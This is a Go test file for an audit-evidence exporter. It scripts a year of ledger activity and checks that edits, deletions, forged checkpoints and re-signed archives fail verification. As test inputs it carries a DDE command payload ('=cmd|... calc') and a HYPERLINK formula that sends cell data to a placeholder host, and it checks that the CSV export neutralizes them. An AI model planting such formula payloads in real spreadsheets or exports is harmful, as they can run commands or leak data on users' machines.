package evidence_test

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/csv"
	"fmt"
	"io"
	"log/slog"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/mod/sumdb/note"
	"golang.org/x/mod/sumdb/tlog"

	"github.com/wardenhq/warden/internal/access"
	"github.com/wardenhq/warden/internal/alerting"
	"github.com/wardenhq/warden/internal/controls"
	"github.com/wardenhq/warden/internal/event"
	"github.com/wardenhq/warden/internal/evidence"
	"github.com/wardenhq/warden/internal/evidencesrc"
	"github.com/wardenhq/warden/internal/ledger"
	"github.com/wardenhq/warden/internal/policy"
	"github.com/wardenhq/warden/internal/retention"
	"github.com/wardenhq/warden/internal/store/sqlite"
)

const origin = "warden"

type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) Now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.t }
func (c *clock) Add(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = c.t.Add(d)
}

// year is a tenant's year of activity on a fake clock.
type year struct {
	db       *sqlite.DB
	ledger   *ledgerRef
	clock    *clock
	signer   note.Signer
	verifier note.Verifier
	// newVerifier is the key the log signs with after the rotation of
	// July 1st (nil when the script ends before).
	newVerifier note.Verifier
	exporter    *evidence.Exporter
	start       time.Time
}

// ledgerRef is the ledger in use: a key rotation replaces it.
type ledgerRef struct {
	mu sync.Mutex
	l  *ledger.Ledger
}

func (r *ledgerRef) get() *ledger.Ledger { r.mu.Lock(); defer r.mu.Unlock(); return r.l }

func (r *ledgerRef) Append(ctx context.Context, tenant string, req ledger.Request) (*ledger.Appended, error) {
	return r.get().Append(ctx, tenant, req)
}

func (r *ledgerRef) Sign(ctx context.Context, tenant string) (*ledger.StoredCheckpoint, error) {
	return r.get().Checkpointer().Sign(ctx, tenant)
}

func keyPair(t *testing.T, name string) (note.Signer, note.Verifier) {
	t.Helper()
	skey, vkey, err := ledger.GenerateKey(name)
	if err != nil {
		t.Fatal(err)
	}
	s, err := note.NewSigner(skey)
	if err != nil {
		t.Fatal(err)
	}
	v, err := note.NewVerifier(vkey)
	if err != nil {
		t.Fatal(err)
	}
	return s, v
}

// newYear runs a scripted year for tenant default: a decision every
// hour, policy versions pushed and activated each month (the first
// without a second approver), a kill switch set and cleared each quarter,
// alerts raised and resolved, an incident, heartbeats every ten minutes
// but for a gap in May, and checkpoints every day.
func newYear(t *testing.T, days int, gapDay time.Time) *year {
	t.Helper()
	ctx := context.Background()
	db, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "warden.db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	start := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	c := &clock{t: start}
	skey, _, err := ledger.GenerateKey(origin)
	if err != nil {
		t.Fatal(err)
	}
	signer, verifier := fixedKey(t, skey)
	first, err := ledger.New(db, ledger.Config{Origin: origin, Signer: signer, Clock: c.Now, Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	l := &ledgerRef{l: first}
	t.Cleanup(func() { _ = l.get().Close(context.Background()) })
	if _, err := access.Bootstrap(ctx, first, db, rand.Reader, c.Now); err != nil {
		t.Fatal(err)
	}
	y := &year{db: db, ledger: l, clock: c, signer: signer, verifier: verifier, start: start}
	prune := &retention.Job{Log: db, Ledger: l, Clock: c.Now, Logger: slog.New(slog.DiscardHandler),
		Policy: func(context.Context, string) (retention.Policy, error) { return retention.Policy{Days: 30}, nil }}
	// From April on, a version needs an approval by a key other than its
	// author's before it is activated.
	pm := &policy.Manager{Ledger: l, Store: db, Clock: c.Now, Required: func(context.Context, string) (int, error) {
		if c.Now().Month() >= time.April {
			return 1, nil
		}
		return 0, nil
	}}
	ctl := &controls.Service{Ledger: l, Store: db, IDs: ledger.NewIDs(c.Now, rand.Reader), Clock: c.Now}
	al := &alerting.Service{Ledger: l, Store: db, IDs: ledger.NewIDs(c.Now, rand.Reader), Clock: c.Now}
	decide := func(agent, effect string, findings bool) {
		d := &event.Decision{Principal: event.DecisionPrincipal{ID: agent, Type: "agent"}, Action: event.DecisionAction{Type: "crm.read"},
			Args: map[string]any{"q": "=cmd|' /C calc'!A0"}, Decision: effect, ScanComplete: true}
		if findings {
			d.Findings = []event.DecisionFinding{{Category: "pii.email", Rule: "email", Severity: "medium", Path: "/args/q"}}
		}
		req, err := event.New(event.KindDecision, "key", d)
		if err == nil {
			_, err = l.Append(ctx, access.DefaultTenant, req)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	var alertID, incident string
	for day := 0; day < days; day++ {
		date := start.AddDate(0, 0, day)
		if date.Day() == 1 {
			c.t = date.Add(time.Minute)
			src := fmt.Sprintf("name: main\nrules: [{id: all, effect: allow}, {id: month-%d, match: {action: \"db.*\"}, effect: deny}]\n", day)
			v, _, err := pm.Push(ctx, access.DefaultTenant, "author", []byte(src))
			if err != nil {
				t.Fatal(err)
			}
			if date.Month() >= time.April {
				if _, err := pm.Approve(ctx, access.DefaultTenant, "approver", v.Name, v.Version); err != nil {
					t.Fatal(err)
				}
			}
			if _, err := pm.Activate(ctx, access.DefaultTenant, "author", v.Name, v.Version); err != nil {
				t.Fatal(err)
			}
			if date.Month()%3 == 1 {
				cs, err := ctl.Set(ctx, access.DefaultTenant, "operator", controls.Spec{Scope: controls.Scope{Agent: "bot-9"}, Effect: controls.Deny, Reason: "quarterly drill"})
				if err != nil {
					t.Fatal(err)
				}
				c.Add(time.Minute)
				if err := ctl.Clear(ctx, access.DefaultTenant, "operator", cs.ID); err != nil {
					t.Fatal(err)
				}
			}
		}
		for h := 0; h < 24; h += 2 {
			c.t = date.Add(time.Duration(h)*time.Hour + 5*time.Minute)
			agent := fmt.Sprintf("bot-%d", h%4)
			if h == 10 {
				agent = `=HYPERLINK("http://x.example/?"&A1)`
			}
			decide(agent, []string{"allow", "allow", "deny", "require_approval"}[h%4], h == 6)
			for m := 0; m < 120; m += 30 {
				// Heartbeats every half hour, but none for gapDay.
				if date.Equal(gapDay) {
					continue
				}
				c.t = date.Add(time.Duration(h)*time.Hour + time.Duration(m)*time.Minute + 7*time.Minute)
				req, _ := event.New(event.KindMonitorHeartbeat, event.ActorMonitor, &event.MonitorHeartbeat{Through: 1, VerifyOK: true})
				if _, err := l.Append(ctx, access.DefaultTenant, req); err != nil {
					t.Fatal(err)
				}
			}
		}
		if date.Month() == time.February && date.Day() == 14 {
			c.t = date.Add(23 * time.Hour)
			a, _, err := al.Raise(ctx, access.DefaultTenant, alerting.Alert{Time: c.t.Truncate(time.Minute), Agent: "bot-2", Metric: "denies",
				Direction: "up", Severity: "critical", Detector: "threshold", Rule: "deny_rate", Observed: 0.9, Baseline: 0.5}, false)
			if err != nil {
				t.Fatal(err)
			}
			alertID = a.ID
			inc, err := al.OpenIncident(ctx, access.DefaultTenant, "operator", alerting.IncidentSpec{Title: "bot-2 denied", Alerts: []string{alertID}})
			if err != nil {
				t.Fatal(err)
			}
			incident = inc.ID
		}
		if date.Month() == time.February && date.Day() == 15 {
			c.t = date.Add(time.Hour)
			if _, err := al.Resolve(ctx, access.DefaultTenant, "operator", alertID, "contained"); err != nil {
				t.Fatal(err)
			}
			if _, err := al.ResolveIncident(ctx, access.DefaultTenant, "operator", incident, "policy fixed"); err != nil {
				t.Fatal(err)
			}
		}
		c.t = date.Add(23*time.Hour + 59*time.Minute)
		if _, err := l.Sign(ctx, access.DefaultTenant); err != nil {
			t.Fatal(err)
		}
		if date.Month() == time.February && date.Day() == 20 {
			// Retention of 30 days, once: January's first three weeks go.
			ps, err := prune.RunOnce(ctx)
			if err != nil || len(ps) != 1 {
				t.Fatalf("prune = %+v, %v; want one prune", ps, err)
			}
		}
		if date.Month() == time.June && date.Day() == 30 {
			// The signing key is rotated: announced in an entry that the
			// old key's last checkpoint covers, then the new key signs.
			newSkey, newVkey, err := ledger.GenerateKey(origin)
			if err != nil {
				t.Fatal(err)
			}
			newSigner, newVerifier := fixedKey(t, newSkey)
			oldVkey, err := ledger.VerifierKey(skey)
			if err != nil {
				t.Fatal(err)
			}
			req, _ := event.New(event.KindLogKeyRotated, event.ActorSystem, &event.LogKeyRotated{OldKey: oldVkey, NewKey: newVkey})
			if _, err := l.Append(ctx, access.DefaultTenant, req); err != nil {
				t.Fatal(err)
			}
			if _, err := l.Sign(ctx, access.DefaultTenant); err != nil {
				t.Fatal(err)
			}
			if err := l.get().Close(ctx); err != nil {
				t.Fatal(err)
			}
			next, err := ledger.New(db, ledger.Config{Origin: origin, Signer: newSigner, Clock: c.Now, Logger: slog.New(slog.DiscardHandler)})
			if err != nil {
				t.Fatal(err)
			}
			l.mu.Lock()
			l.l = next
			l.mu.Unlock()
			y.signer, y.newVerifier = newSigner, newVerifier
		}
	}
	c.t = start.AddDate(0, 0, days+1)
	keys := []note.Verifier{verifier}
	if y.newVerifier != nil {
		keys = append(keys, y.newVerifier)
	}
	y.exporter = &evidence.Exporter{Log: db, Origin: origin, Signer: y.signer, Keys: keys, Sign: l.Sign,
		Records: evidencesrc.FromStore(db, db, db, db), Generator: "warden test", Clock: c.Now, HeartbeatGap: 45 * time.Minute}
	return y
}

// keys is the log's key history, oldest first.
func (y *year) keys() []note.Verifier {
	if y.newVerifier == nil {
		return []note.Verifier{y.verifier}
	}
	return []note.Verifier{y.verifier, y.newVerifier}
}

// export records the export (as the API does) and returns the archive.
func (y *year) export(t *testing.T, from, to time.Time) []byte {
	t.Helper()
	ctx := context.Background()
	req, _ := event.New(event.KindEvidenceExported, "auditor", &event.EvidenceExported{From: from.Format(time.RFC3339), To: to.Format(time.RFC3339)})
	if _, err := y.ledger.Append(ctx, access.DefaultTenant, req); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	s, err := y.exporter.Export(ctx, &buf, access.DefaultTenant, from, to, evidence.Options{OSCAL: true})
	if err != nil {
		t.Fatalf("Export = %v", err)
	}
	if !s.Verification.OK {
		t.Fatalf("the export's own check failed: %+v", s.Verification)
	}
	return buf.Bytes()
}

func verify(t *testing.T, archive []byte, keys ...note.Verifier) (*evidence.Verification, map[string]string) {
	t.Helper()
	v, _, err := evidence.Verify(bytes.NewReader(archive), int64(len(archive)), evidence.VerifyOptions{Keys: keys})
	if err != nil {
		t.Fatalf("Verify = %v", err)
	}
	failed := map[string]string{}
	for _, c := range v.Checks {
		if !c.OK {
			failed[c.Name] = c.Detail
		}
	}
	return v, failed
}

// rewrite returns archive with file name's content changed by edit
// (nil: removed), every other file as it was.
func rewrite(t *testing.T, archive []byte, edits map[string]func([]byte) []byte) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(archive), int64(len(archive)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		if edit, ok := edits[f.Name]; ok {
			b = edit(b)
		}
		w, err := zw.Create(f.Name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(b)
	}
	zw.Close()
	return out.Bytes()
}

func fileOf(t *testing.T, archive []byte, name string) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(archive), int64(len(archive)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, _ := io.ReadAll(rc)
	return b
}

// TestScriptedYear exports the second quarter of a year of activity,
// verifies it, and checks that each kind of tampering is named.
func TestScriptedYear(t *testing.T) {
	// A year, and the second quarter; under -short a hundred days, and
	// March.
	days, gap := 365, time.Date(2025, 5, 12, 0, 0, 0, 0, time.UTC)
	from, to := time.Date(2025, 4, 1, 0, 0, 0, 0, time.UTC), time.Date(2025, 7, 1, 0, 0, 0, 0, time.UTC)
	if testing.Short() {
		days, gap = 100, time.Date(2025, 3, 12, 0, 0, 0, 0, time.UTC)
		from, to = time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC), time.Date(2025, 4, 1, 0, 0, 0, 0, time.UTC)
	}
	y := newYear(t, days, gap)
	archive := y.export(t, from, to)
	v, failed := verify(t, archive, y.keys()...)
	if !v.OK {
		t.Fatalf("a fresh archive does not verify: %v\n%s", failed, v.Format())
	}
	if y.newVerifier != nil {
		// The period's checkpoints were signed before and after the key
		// rotation of June 30: the auditor needs the history.
		for name, keys := range map[string][]note.Verifier{"old": {y.verifier}, "new": {y.newVerifier}} {
			if _, failed := verify(t, archive, keys...); failed[evidence.CheckCheckpoints] == "" {
				t.Errorf("verified with only the %s key: %v", name, failed)
			}
		}
	}
	// The period's entries are all there: a decision every two hours.
	lines := bytes.Count(fileOf(t, archive, evidence.FileEntries), []byte("\n"))
	if days := int(to.Sub(from).Hours() / 24); lines < days*12 {
		t.Errorf("%d entries in the period, want at least %d decisions", lines, days*12)
	}
	rows, err := csv.NewReader(bytes.NewReader(fileOf(t, archive, evidence.FileEntriesCSV))).ReadAll()
	if err != nil || len(rows) != lines+1 {
		t.Fatalf("entries.csv: %d rows, %v; want a header and %d", len(rows), err, lines)
	}
	formulas := 0
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("entries.csv cell %q would run as a formula", cell)
			}
			if strings.HasPrefix(cell, "'=") {
				formulas++
			}
		}
	}
	if formulas == 0 {
		t.Error("no neutralized cell: the agent =HYPERLINK(...) of the trace should be one")
	}
	// The gap runs from the last heartbeat before the silent day to the
	// first after it.
	gapFrom, gapTo := gap.Add(-23*time.Minute).Format(time.RFC3339), gap.AddDate(0, 0, 1).Add(7*time.Minute).Format(time.RFC3339)
	mon := string(fileOf(t, archive, evidence.FileMonitoring))
	if !strings.Contains(mon, `"from": "`+gapFrom+`"`) || strings.Count(mon, `"from"`) != 1 {
		t.Errorf("monitoring.json does not name exactly the gap from %s:\n%.2000s", gapFrom, mon)
	}
	// Every version of the period was approved by a second key: no flag;
	// before April they were not.
	if s := string(fileOf(t, archive, evidence.FileControls)); strings.Contains(s, "without a second approver") != from.Before(time.Date(2025, 4, 1, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("controls.json flags policy changes without a second approver wrongly for %s", from.Format("2006-01"))
	}
	if pol := string(fileOf(t, archive, evidence.FilePolicies)); from.Month() >= time.April && !strings.Contains(pol, `"key": "approver"`) {
		t.Errorf("policies.json lacks the approvals:\n%.1500s", pol)
	}
	report := string(fileOf(t, archive, evidence.FileReport))
	for _, want := range []string{"CC6", "CC7", "CC8", "A1", "PI1", "C1", gapFrom, gapTo} {
		if !strings.Contains(report, want) {
			t.Errorf("report.html lacks %q", want)
		}
	}

	// The version pushed in the period's first month.
	policyFile := fmt.Sprintf("policies/main/v%d.yaml", int(from.Month()))
	if len(fileOf(t, archive, policyFile)) == 0 {
		t.Fatalf("no %s in the archive", policyFile)
	}
	other, otherV := keyPair(t, origin)
	_ = otherV
	line := func(b []byte, n int) (int, int) {
		start := 0
		for i := 0; i < n; i++ {
			start += bytes.IndexByte(b[start:], '\n') + 1
		}
		return start, start + bytes.IndexByte(b[start:], '\n') + 1
	}
	cases := []struct {
		name  string
		edits map[string]func([]byte) []byte
		want  []string
	}{
		{"an entry edited", map[string]func([]byte) []byte{evidence.FileEntries: func(b []byte) []byte {
			return bytes.Replace(b, []byte(`"decision":"deny"`), []byte(`"decision":"allow"`), 1)
		}}, []string{evidence.CheckFiles, evidence.CheckChain}},
		{"an entry removed", map[string]func([]byte) []byte{evidence.FileEntries: func(b []byte) []byte {
			s, e := line(b, 100)
			return append(append([]byte{}, b[:s]...), b[e:]...)
		}}, []string{evidence.CheckFiles, evidence.CheckEntries}},
		{"an entry added", map[string]func([]byte) []byte{evidence.FileEntries: func(b []byte) []byte {
			s, e := line(b, 100)
			return append(append(append([]byte{}, b[:e]...), b[s:e]...), b[e:]...)
		}}, []string{evidence.CheckFiles, evidence.CheckEntries}},
		{"a policy file altered", map[string]func([]byte) []byte{policyFile: func(b []byte) []byte {
			return bytes.Replace(b, []byte("effect: deny"), []byte("effect: allow"), 1)
		}}, []string{evidence.CheckFiles, evidence.CheckPolicies}},
		{"the manifest edited", map[string]func([]byte) []byte{evidence.FileManifest: func(b []byte) []byte {
			return bytes.Replace(b, []byte(`"tenant": "default"`), []byte(`"tenant": "defaulx"`), 1)
		}}, []string{evidence.CheckManifestSignature}},
		{"a checkpoint swapped", map[string]func([]byte) []byte{evidence.FileCheckpoints: func(b []byte) []byte {
			// The start checkpoint in place of the end one.
			return swapCheckpoints(t, b)
		}}, []string{evidence.CheckFiles, evidence.CheckInclusion}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {

			_, failed := verify(t, rewrite(t, archive, c.edits), y.keys()...)
			for _, name := range c.want {
				if _, ok := failed[name]; !ok {
					t.Errorf("%s: check %s passed; failed: %v", c.name, name, failed)
				}
			}
		})
	}
	t.Run("January, pruned under retention", func(t *testing.T) {
		jan := y.export(t, y.start, y.start.AddDate(0, 1, 0))
		v, failed := verify(t, jan, y.keys()...)
		if !v.OK {
			t.Fatalf("January does not verify: %v", failed)
		}
		entries := fileOf(t, jan, evidence.FileEntries)
		pruned := bytes.Count(entries, []byte(`"pruned":true`))
		if pruned == 0 || pruned == bytes.Count(entries, []byte("\n")) {
			t.Fatalf("%d of January's entries pruned, want some but not all", pruned)
		}
		// An entry after the prune passed off as pruned: its seq and leaf
		// hash are right, but no prune declares it.
		lines := bytes.Split(bytes.TrimSuffix(entries, []byte("\n")), []byte("\n"))
		last := lines[len(lines)-1]
		e, err := ledger.Parse(last)
		if err != nil {
			t.Fatal(err)
		}
		fake := fmt.Sprintf(`{"seq":%d,"pruned":true,"leaf_hash":%q}`, e.Seq, ledger.EncodeHash(ledger.LeafHash(last)))
		edited := rewrite(t, jan, map[string]func([]byte) []byte{evidence.FileEntries: func(b []byte) []byte {
			return bytes.Replace(b, last, []byte(fake), 1)
		}})
		if _, failed := verify(t, edited, y.keys()...); failed[evidence.CheckPruned] == "" {
			t.Errorf("an undeclared pruned entry passed: %v", failed)
		}
	})
	t.Run("a checkpoint the auditor kept", func(t *testing.T) {
		ctx := context.Background()
		cps, err := y.db.Checkpoints(ctx, access.DefaultTenant, 1, 1<<62)
		if err != nil || len(cps) < 10 {
			t.Fatalf("Checkpoints = %d, %v", len(cps), err)
		}
		kept := cps[len(cps)/2]
		var buf bytes.Buffer
		if _, err := y.exporter.Export(ctx, &buf, access.DefaultTenant, from, to, evidence.Options{TrustedSize: kept.Size}); err != nil {
			t.Fatal(err)
		}
		v, _, err := evidence.Verify(bytes.NewReader(buf.Bytes()), int64(buf.Len()), evidence.VerifyOptions{Keys: y.keys(), Trusted: kept.Note})
		if err != nil || !v.OK {
			t.Fatalf("with the kept checkpoint: %v\n%s", err, v.Format())
		}
		// A checkpoint of the same size with another root: the log the
		// auditor saw was not this one.
		forged, err := ledger.SignCheckpoint(y.signer, ledger.TenantOrigin(origin, access.DefaultTenant), kept.Size, tlog.Hash{1})
		if err != nil {
			t.Fatal(err)
		}
		v, _, err = evidence.Verify(bytes.NewReader(buf.Bytes()), int64(buf.Len()), evidence.VerifyOptions{Keys: y.keys(), Trusted: forged})
		if err != nil || v.OK {
			t.Fatalf("with another root of the kept size: %v\n%s", err, v.Format())
		}
		// Without the proof from that size, the archive cannot be compared.
		v, _, _ = evidence.Verify(bytes.NewReader(archive), int64(len(archive)), evidence.VerifyOptions{Keys: y.keys(), Trusted: kept.Note})
		if v.OK {
			t.Errorf("an archive without a proof from the trusted size verified against it")
		}
	})
	t.Run("the archive re-signed with another key", func(t *testing.T) {
		forged := *y.exporter
		forged.Signer = other
		forged.Keys = []note.Verifier{otherV}
		var buf bytes.Buffer
		if _, err := forged.Export(context.Background(), &buf, access.DefaultTenant, from, to, evidence.Options{}); err != nil {
			t.Fatal(err)
		}
		_, failed := verify(t, buf.Bytes(), y.keys()...)
		if _, ok := failed[evidence.CheckManifestSignature]; !ok {
			t.Errorf("manifest_signature passed for an archive signed by another key: %v", failed)
		}
		// Its checkpoints are the log's (they were signed by the log key);
		// a forger with a log of their own fails those too.
		_, failedOwn := verify(t, buf.Bytes(), otherV)
		if _, ok := failedOwn[evidence.CheckCheckpoints]; !ok {
			t.Errorf("the log's checkpoints verified under another key: %v", failedOwn)
		}
	})
}

// swapCheckpoints puts the start checkpoint in the end's place.
func swapCheckpoints(t *testing.T, b []byte) []byte {
	t.Helper()
	var doc map[string]any
	if err := jsonUnmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	doc["end"] = doc["start"]
	out, err := jsonMarshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// TestEmptyPeriod exports periods without entries: at the start of the
// log and between two entries. Both verify; an archive that claims an
// empty period where there were entries does not.
func TestEmptyPeriod(t *testing.T) {
	y := newYear(t, 3, time.Time{})
	ctx := context.Background()
	for _, p := range []struct{ from, to time.Time }{
		{time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC)},
		{time.Date(2025, 1, 2, 0, 5, 1, 0, time.UTC), time.Date(2025, 1, 2, 0, 6, 0, 0, time.UTC)},
	} {
		var buf bytes.Buffer
		s, err := y.exporter.Export(ctx, &buf, access.DefaultTenant, p.from, p.to, evidence.Options{})
		if err != nil || s.Entries != 0 {
			t.Fatalf("Export(%s, %s) = %d entries, %v; want an empty period", p.from, p.to, s.Entries, err)
		}
		if v, failed := verify(t, buf.Bytes(), y.keys()...); !v.OK {
			t.Errorf("the empty period %s to %s does not verify: %v", p.from, p.to, failed)
		}
	}
	// A period with entries passed off as empty: drop them all and fix
	// the manifest's counts (the signature then fails, and the entries
	// around the period are not adjacent).
	from, to := time.Date(2025, 1, 2, 0, 0, 0, 0, time.UTC), time.Date(2025, 1, 2, 12, 0, 0, 0, time.UTC)
	archive := y.export(t, from, to)
	emptied := rewrite(t, archive, map[string]func([]byte) []byte{
		evidence.FileEntries: func([]byte) []byte { return nil },
		evidence.FileCheckpoints: func(b []byte) []byte {
			var doc map[string]any
			if err := jsonUnmarshal(b, &doc); err != nil {
				t.Fatal(err)
			}
			delete(doc, "first")
			delete(doc, "last")
			out, _ := jsonMarshal(doc)
			return out
		},
	})
	_, failed := verify(t, emptied, y.keys()...)
	if failed[evidence.CheckEntries] == "" || failed[evidence.CheckFiles] == "" {
		t.Errorf("entries removed wholesale passed: %v", failed)
	}
}
